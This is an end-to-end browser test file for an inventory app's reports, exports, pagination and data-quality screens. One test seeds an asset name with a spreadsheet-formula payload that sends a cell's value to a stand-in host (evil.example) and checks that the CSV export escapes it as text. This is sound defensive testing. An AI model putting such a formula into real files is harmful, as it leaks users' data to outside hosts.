import { readdir, readFile } from "node:fs/promises";
import path from "node:path";
import { assetTypeInput, assetWriteInput, REPORT_TABLE_PAGE_SIZE, TEMPLATE_NOT_FOUND_MESSAGE } from "@stockroom/core";
import { forms } from "@stockroom/db";
import { createOrganization, createUser, signedInClient } from "@stockroom/server/testing";
import { and, eq, like } from "drizzle-orm";
import Papa from "papaparse";
import type { Page } from "playwright-core";
import XLSX from "sheetjs-style";
import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
import { createAssetType } from "../../server/src/services/asset-types/create-asset-type";
import { createAsset } from "../../server/src/services/assets/create-asset";
import { createDefaultForms } from "../../server/src/services/forms/create-default-forms";
import { type BrowserApp, noBrowser, signIn, startBrowserApp } from "./harness";

const EMAIL = "dana@reports.test";
const PASSWORD = "pass-word-1";
/** Screenshots for the reviewer (outside the repository); /tmp when that folder is absent. */
const SCREENS = process.env.STOCKROOM_SCREENS ?? "/tmp";
const ODD_NAME = 'Eggshell White, 5 "gal"\nAisle 1';

let app: BrowserApp;
let orgId: string;
let inventoryFormId: string;
const assetIds: Record<string, string> = {};

beforeAll(async () => {
  if (noBrowser) return;
  app = await startBrowserApp();
  const db = app.db.db;
  orgId = (await createOrganization(db, "Demo Supply Co.")).id;
  const admin = await createUser(db, { email: EMAIL, password: PASSWORD, org: { id: orgId, role: "admin" } });
  // Demo-like data through the app's own services (as seed:demo does).
  const type = await createAssetType(
    { db, orgId, actorId: admin.id },
    assetTypeInput.parse({ name: "Paint", color: "#0EA5E9", enableBarcodes: false }),
  );
  await createDefaultForms({ db, orgId, actorId: admin.id }, type.id);
  for (const [name, quantity] of [
    [ODD_NAME, 42],
    ["Satin Navy 1 gal", 8],
    ["Primer Gray 5 gal", 0],
    ["Semi-Gloss Ivory 1 gal", 64],
  ] as const) {
    const created = await createAsset(
      { db, orgId, actorId: admin.id },
      assetWriteInput.parse({ name, asset_type_id: type.id, current_inventory: quantity, location: "Aisle 1" }),
    );
    assetIds[name] = created.id;
  }
  const [form] = await db
    .select({ id: forms.id })
    .from(forms)
    .where(and(eq(forms.organizationId, orgId), like(forms.name, "%Inventory Form")));
  inventoryFormId = form?.id ?? "";
  // One inventory count already recorded, through the forms.submit procedure.
  const api = await signedInClient(app, EMAIL, PASSWORD);
  await api.trpc.forms.submit.mutate({
    formId: inventoryFormId,
    assetId: assetIds["Satin Navy 1 gal"] ?? "",
    values: { field_1: 8 },
  });
});
afterAll(async () => {
  await app?.close();
});

async function download(page: Page, button: string) {
  const [file] = await Promise.all([
    page.waitForEvent("download"),
    // From the keyboard: the previous export's toast may sit over the button.
    page.getByRole("button", { name: button }).press("Enter"),
  ]).catch(async (err) => {
    await page.screenshot({ path: `/tmp/reports-download-failed.png`, fullPage: true });
    throw err;
  });
  const saved = await file.path();
  return { name: file.suggestedFilename(), bytes: await readFile(saved) };
}

const today = () => new Date().toISOString().slice(0, 10);

describe.skipIf(noBrowser)("reports and data quality (Chromium)", () => {
  it("builds a report, saves and re-applies a template, exports CSV and Excel", async () => {
    const { page, context } = await app.newPage();
    // A failed export logs its error: show it in the test output.
    page.on("console", (m) => m.type() === "error" && console.log("[browser console]", m.text()));
    await signIn(page, EMAIL, PASSWORD);
    await page.goto("/reports");
    await page.getByRole("heading", { level: 1, name: "Inventory Reports" }).waitFor();
    await page.getByRole("heading", { name: "Advanced Asset Reporting" }).waitFor();

    // Configuration: the Paint type, current month, latest mode.
    await page.getByTestId("report-asset-types").click();
    await page.getByRole("option", { name: "Paint" }).click();
    await page.keyboard.press("Escape");
    // The type's form fields join the fixed columns.
    const columns = page.getByTestId("report-columns");
    await columns.getByText("Quantity", { exact: true }).waitFor();
    await columns.getByText("Last Month Total", { exact: true }).waitFor();

    // A colour separator column, then move it up once.
    await page.getByRole("textbox", { name: "Column name" }).fill("Counts");
    await page.getByRole("button", { name: "Add Colour Column" }).click();
    await columns.getByText("Counts", { exact: true }).waitFor();
    await page.getByRole("button", { name: "Move Counts up" }).click();
    // Hide the Notes column.
    await page.getByRole("checkbox", { name: "Show column Notes" }).uncheck();

    // History mode cannot run without an asset.
    await page.getByTestId("view-mode").getByText("History", { exact: true }).click();
    await page.getByText("Please choose an asset to see its history").waitFor();
    await expect(page.getByRole("button", { name: "Generate Report" }).isDisabled()).resolves.toBe(true);
    await page.getByTestId("view-mode").getByText("Latest", { exact: true }).click();

    await page.getByRole("button", { name: "Generate Report" }).click();
    await page.getByTestId("report-row-count").getByText("Showing 3 of 4 rows").waitFor();
    const table = page.getByTestId("report-table");
    await expect(table.locator("tbody tr").count()).resolves.toBe(3);
    await page.getByRole("switch", { name: "Show all rows" }).check();
    await page.getByTestId("report-row-count").getByText("4 rows").waitFor();
    await table.getByText("Satin Navy 1 gal").waitFor();
    await page.getByTestId("consistency-warnings").waitFor();
    await page.screenshot({ path: "/tmp/reports-1280.png", fullPage: true });

    // Save a template, change the configuration, apply the template again.
    await page.getByRole("textbox", { name: "Template name" }).fill("Paint monthly");
    await page.getByRole("button", { name: "Save Template" }).click();
    await page.getByTestId("report-templates").getByText("Paint monthly").waitFor();
    await page.getByTestId("view-mode").getByText("Comparison", { exact: true }).click();
    await page.getByRole("button", { name: "Delete colour column Counts" }).click();
    await expect(columns.getByText("Counts", { exact: true }).count()).resolves.toBe(0);
    await page.getByRole("button", { name: "Apply template Paint monthly" }).click();
    await columns.getByText("Counts", { exact: true }).waitFor();
    await expect(page.getByRole("radio", { name: "Latest" }).isChecked()).resolves.toBe(true);
    await expect(page.getByRole("checkbox", { name: "Show column Notes" }).isChecked()).resolves.toBe(false);

    // Generate again (same template) and export both formats.
    await page.getByRole("button", { name: "Generate Report" }).click();
    await page.getByTestId("report-row-count").getByText("4 rows").waitFor();

    // Excel first: Chromium lets a page start one download without a fresh user gesture;
    // the spreadsheet chunk loads for a moment after the key press.
    const xlsx = await download(page, "Export Excel");
    expect(xlsx.name).toBe(`inventory-report-${today()}.xlsx`);
    await page.getByText("Excel exported successfully!").waitFor();
    await page.getByText("1 colour column exported as filled cells with its name as text in the header.").waitFor();
    const book = XLSX.read(xlsx.bytes, { type: "buffer", cellStyles: true });
    const sheet = book.Sheets.Report;
    if (!sheet) throw new Error("no Report sheet");
    const values = XLSX.utils.sheet_to_json<unknown[]>(sheet, { header: 1, defval: "" });
    const sheetHeader = values[0] as string[];
    expect(values.map((r) => r[0])).toContain(ODD_NAME);
    const navy = values.find((r) => r[0] === "Satin Navy 1 gal");
    expect(navy?.[sheetHeader.indexOf("Quantity")]).toBe(8);
    for (const r of [0, 1, 4]) {
      const cell = sheet[XLSX.utils.encode_cell({ r, c: sheetHeader.indexOf("Counts") })] as {
        s?: { patternType?: string; fgColor?: { rgb?: string } };
      };
      expect(cell.s?.patternType).toBe("solid");
      expect(cell.s?.fgColor?.rgb).toBe("3B82F6");
    }

    const csv = await download(page, "Export CSV");
    expect(csv.name).toBe(`inventory-report-${today()}.csv`);
    const parsed = Papa.parse<string[]>(csv.bytes.toString("utf8").replace(/^\uFEFF/, ""), { skipEmptyLines: true });
    const header = parsed.data[0] ?? [];
    // Intake form fields, then the inventory form's new ones; Counts moved up once; Notes hidden.
    expect(header).toEqual(sheetHeader);
    expect(header).toEqual([
      "Asset Name",
      "Asset Type",
      "Submission Date",
      "Last Month Total",
      "Quantity Received",
      "Location",
      "Quantity",
      "Counts",
      "Condition",
    ]);
    expect(parsed.data.map((r) => r[0])).toContain(ODD_NAME);

    // The saved template opens from /reports/{id}.
    const [template] = await (await signedInClient(app, EMAIL, PASSWORD)).trpc.reports.templates.list.query();
    await page.goto(`/reports/${template?.id}`);
    await page.waitForURL((u) => u.pathname === "/reports" && u.search.includes(template?.id ?? "?"));
    await page.getByTestId("report-columns").getByText("Counts", { exact: true }).waitFor();

    // Phone size.
    await page.setViewportSize({ width: 375, height: 667 });
    await page.getByRole("heading", { level: 1, name: "Inventory Reports" }).waitFor();
    await page.screenshot({ path: "/tmp/reports-375.png", fullPage: true });
    await context.close();
  });

  it("the spreadsheet library sits in a chunk of its own", async () => {
    const dist = inject("webDist");
    const files = await readdir(path.join(dist, "assets"));
    const scripts = files.filter((f) => f.endsWith(".js"));
    const withSheetJs: string[] = [];
    for (const f of scripts) {
      const text = await readFile(path.join(dist, "assets", f), "utf8");
      if (text.includes("SheetJS") || text.includes("XLSX.version")) withSheetJs.push(f);
    }
    expect(withSheetJs).toHaveLength(1);
    const index = await readFile(path.join(dist, "index.html"), "utf8");
    expect(index).not.toContain(withSheetJs[0]);
    expect(withSheetJs[0]).not.toMatch(/^(index|ReportsPage)-/);
  });

  it("Data Quality shows computed numbers that change after a check is recorded, without a reload", async () => {
    const { page, context } = await app.newPage();
    await signIn(page, EMAIL, PASSWORD);
    await page.goto("/data-quality");
    await page.getByRole("heading", { level: 1, name: "Data Quality Dashboard" }).waitFor();
    const score = page.getByTestId("quality-score");
    await score.waitFor();
    const before = await score.textContent();
    expect(before).toMatch(/^\d+\/100$/);
    expect(before).not.toBe("87/100");
    await page.getByTestId("insight").first().waitFor();
    await page.screenshot({ path: "/tmp/data-quality-1280.png", fullPage: true });
    // A marker that a reload would lose.
    await page.evaluate(() => {
      (window as unknown as { marker: number }).marker = 42;
    });

    // Count the 42 of Eggshell White down to 5: now within 10 units, consistent.
    const api = await signedInClient(app, EMAIL, PASSWORD);
    await api.trpc.forms.submit.mutate({
      formId: inventoryFormId,
      assetId: assetIds[ODD_NAME] ?? "",
      values: { field_1: 5 },
    });

    await page.getByRole("button", { name: "Refresh Analysis" }).click();
    await page.waitForFunction(
      (old) => document.querySelector('[data-testid="quality-score"]')?.textContent !== old,
      before,
    );
    expect(await score.textContent()).not.toBe(before);
    expect(await page.evaluate(() => (window as unknown as { marker?: number }).marker)).toBe(42);

    await page.getByRole("link", { name: "View Reports" }).waitFor();
    for (const name of ["Inventory", "Reports", "Assets", "Forms"]) {
      await page.getByRole("link", { name, exact: true }).first().waitFor();
    }
    await page.setViewportSize({ width: 375, height: 667 });
    await page.screenshot({ path: "/tmp/data-quality-375.png", fullPage: true });
    await context.close();
  });

  it("an organization without data gets an honest empty state and the asset-types warning", async () => {
    const db = app.db.db;
    const empty = await createOrganization(db, "Empty Co.");
    await createUser(db, { email: "erin@empty.test", password: PASSWORD, org: { id: empty.id, role: "member" } });
    const { page, context } = await app.newPage();
    await signIn(page, "erin@empty.test", PASSWORD);
    await page.goto("/data-quality");
    await page.getByTestId("data-quality-empty").waitFor();
    await expect(page.getByText("87/100").count()).resolves.toBe(0);
    await page.goto("/reports");
    await page.getByText("No asset types found. Please create asset types first.").waitFor();
    await context.close();
  });

  it("a report larger than a table page shows page 2 when asked, fetched from the server page by page", async () => {
    const db = app.db.db;
    const org = await createOrganization(db, "Bolts Co.");
    const owner = await createUser(db, {
      email: "bo@bolts.test",
      password: PASSWORD,
      org: { id: org.id, role: "admin" },
    });
    const ctx = { db, orgId: org.id, actorId: owner.id };
    const type = await createAssetType(
      ctx,
      assetTypeInput.parse({ name: "Bolts", color: "#0EA5E9", enableBarcodes: false }),
    );
    await createDefaultForms(ctx, type.id);
    const count = REPORT_TABLE_PAGE_SIZE + 5;
    const names = Array.from({ length: count }, (_, i) => `Bolt ${String(i + 1).padStart(2, "0")}`);
    for (const name of names) {
      await createAsset(ctx, assetWriteInput.parse({ name, asset_type_id: type.id, current_inventory: 3 }));
    }

    const { page, context } = await app.newPage();
    await page.setViewportSize({ width: 1280, height: 800 });
    await signIn(page, "bo@bolts.test", PASSWORD);
    await page.goto("/reports");
    await page.getByRole("heading", { level: 1, name: "Inventory Reports" }).waitFor();
    const asked: number[] = [];
    page.on("request", (request) => {
      const url = new URL(request.url());
      if (!url.pathname.includes("reports.generate")) return;
      const input = JSON.parse(url.searchParams.get("input") ?? "{}");
      asked.push(input["0"]?.json?.page ?? input.json?.page ?? 0);
    });
    await page.getByRole("button", { name: "Generate Report" }).click();
    await page.getByTestId("report-row-count").getByText(`Showing 3 of ${count} rows`).waitFor();
    await page.getByRole("switch", { name: "Show all rows" }).check();
    const table = page.getByTestId("report-table");
    await table.getByText(names[0] ?? "").waitFor();
    await page.getByText(`Assets 1–${REPORT_TABLE_PAGE_SIZE} of ${count}`).waitFor();
    await expect(table.locator("tbody tr").count()).resolves.toBe(REPORT_TABLE_PAGE_SIZE);
    await page.screenshot({ path: `${SCREENS}/reports-page1-1280.png`, fullPage: true });
    await page.getByRole("button", { name: "Next page" }).click();
    await table.getByText(names[count - 1] ?? "").waitFor();
    await page.getByText(`Assets ${REPORT_TABLE_PAGE_SIZE + 1}–${count} of ${count}`).waitFor();
    await expect(table.locator("tbody tr").count()).resolves.toBe(count - REPORT_TABLE_PAGE_SIZE);
    await expect(table.getByText(names[0] ?? "").count()).resolves.toBe(0);
    // Page 2 was asked of the server on its own: the browser never held the whole report.
    expect(asked).toContain(2);
    await page.screenshot({ path: `${SCREENS}/reports-page2-1280.png`, fullPage: true });
    await page.setViewportSize({ width: 375, height: 667 });
    await page.getByRole("button", { name: "Previous page" }).scrollIntoViewIfNeeded();
    await page.screenshot({ path: `${SCREENS}/reports-page2-375.png`, fullPage: true });
    await page.screenshot({ path: `${SCREENS}/reports-page2-375-viewport.png` });
    await context.close();
  });

  it("a formula in an asset name is exported as text in the CSV (issue 21 §7)", async () => {
    const db = app.db.db;
    const org = await createOrganization(db, "Formula Co.");
    const owner = await createUser(db, {
      email: "fran@formula.test",
      password: PASSWORD,
      org: { id: org.id, role: "admin" },
    });
    const ctx = { db, orgId: org.id, actorId: owner.id };
    const type = await createAssetType(
      ctx,
      assetTypeInput.parse({ name: "Paint", color: "#0EA5E9", enableBarcodes: false }),
    );
    await createDefaultForms(ctx, type.id);
    const formula = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")';
    await createAsset(ctx, assetWriteInput.parse({ name: formula, asset_type_id: type.id, current_inventory: 3 }));

    const { page, context } = await app.newPage();
    await signIn(page, "fran@formula.test", PASSWORD);
    await page.goto("/reports");
    await page.getByRole("heading", { level: 1, name: "Inventory Reports" }).waitFor();
    await page.getByRole("textbox", { name: "Template name" }).fill("Formula check");
    await page.getByRole("button", { name: "Save Template" }).click();
    await page.getByRole("button", { name: "Apply template Formula check" }).waitFor();
    await page.getByRole("button", { name: "Generate Report" }).click();
    await page.getByTestId("report-table").getByText(formula).waitFor();
    await page.screenshot({ path: "/tmp/abuse-reports-1280.png", fullPage: true });
    const csv = await download(page, "Export CSV");
    const rows = Papa.parse<string[]>(csv.bytes.toString("utf8").replace(/^\uFEFF/, ""), { skipEmptyLines: true }).data;
    const nameAt = rows[0]?.indexOf("Asset Name") ?? -1;
    expect(rows.slice(1).map((r) => r[nameAt])).toEqual([`'${formula}`]);
    await page.setViewportSize({ width: 375, height: 667 });
    await page.getByRole("button", { name: "Apply template Formula check" }).scrollIntoViewIfNeeded();
    await page.screenshot({ path: "/tmp/abuse-reports-375.png", fullPage: true });
    await context.close();
  });

  it("says 'Template not found' for a deleted, another organization's or a made-up template, and shows the screen", async () => {
    const db = app.db.db;
    const api = (await signedInClient(app, EMAIL, PASSWORD)).trpc;
    const deleted = await api.reports.templates.create.mutate({ name: "Short-lived" });
    await api.reports.templates.delete.mutate({ id: deleted.id });
    const other = await createOrganization(db, "Other Paints Ltd.");
    await createUser(db, { email: "olga@other.test", password: PASSWORD, org: { id: other.id, role: "admin" } });
    const theirs = await (await signedInClient(app, "olga@other.test", PASSWORD)).trpc.reports.templates.create.mutate({
      name: "Their template",
      view_mode: "comparison",
    });

    const { page, context } = await app.newPage();
    await signIn(page, EMAIL, PASSWORD);
    for (const link of [`/reports/${deleted.id}`, `/reports/${theirs.id}`, "/reports?template=not-a-template"]) {
      await page.goto(link);
      const alert = page.getByTestId("template-not-found");
      await alert.waitFor();
      await expect(alert.getByText(TEMPLATE_NOT_FOUND_MESSAGE, { exact: true }).count()).resolves.toBe(1);
      // The reports screen is there, with the default configuration.
      await page.getByRole("heading", { level: 1, name: "Inventory Reports" }).waitFor();
      await page.getByRole("button", { name: "Generate Report" }).waitFor();
      await expect(page.getByRole("radio", { name: "Latest" }).isChecked()).resolves.toBe(true);
    }
    expect(TEMPLATE_NOT_FOUND_MESSAGE).toBe("Template not found");
    // A plain /reports says nothing of templates.
    await page.goto("/reports");
    await page.getByRole("button", { name: "Generate Report" }).waitFor();
    await expect(page.getByTestId("template-not-found").count()).resolves.toBe(0);
    await context.close();
  });

  it("marks results stale when the configuration changes, and Regenerate brings them up to date", async () => {
    const { page, context } = await app.newPage();
    await signIn(page, EMAIL, PASSWORD);
    await page.goto("/reports");
    await page.getByRole("button", { name: "Generate Report" }).click();
    await page.getByTestId("report-row-count").getByText("Showing 3 of 4 rows").waitFor();
    await expect(page.getByTestId("report-stale").count()).resolves.toBe(0);

    // Another view mode: the rows on screen were made for Latest.
    await page.getByTestId("view-mode").getByText("Comparison", { exact: true }).click();
    const stale = page.getByTestId("report-stale");
    await stale.waitFor();
    await stale.getByText("no longer match").waitFor();
    await page.screenshot({ path: "/tmp/reports-stale-1280.png", fullPage: true });
    // Back to Latest: they match again.
    await page.getByTestId("view-mode").getByText("Latest", { exact: true }).click();
    await stale.waitFor({ state: "detached" });

    // Another date range, then Regenerate from the notice.
    await page.getByRole("combobox", { name: "Date range" }).click();
    await page.getByRole("option", { name: "Last Month", exact: true }).click();
    await stale.waitFor();
    await stale.getByRole("button", { name: "Regenerate" }).click();
    await stale.waitFor({ state: "detached" });
    await expect.poll(() => page.getByRole("button", { name: "Generate Report" }).isEnabled()).toBe(true);
    await expect(stale.count()).resolves.toBe(0);
    await context.close();
  });
});
